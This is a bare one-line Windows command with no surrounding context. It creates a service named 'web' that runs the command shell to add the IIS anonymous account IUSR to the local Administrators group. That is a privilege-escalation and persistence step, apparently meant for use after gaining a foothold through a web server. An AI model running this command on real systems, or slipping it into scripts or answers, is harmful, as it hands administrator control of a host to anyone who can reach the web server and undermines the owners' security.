sc create web binPath= "%%COMSPEC%% /c net localgroup Administrators IUSR /add"
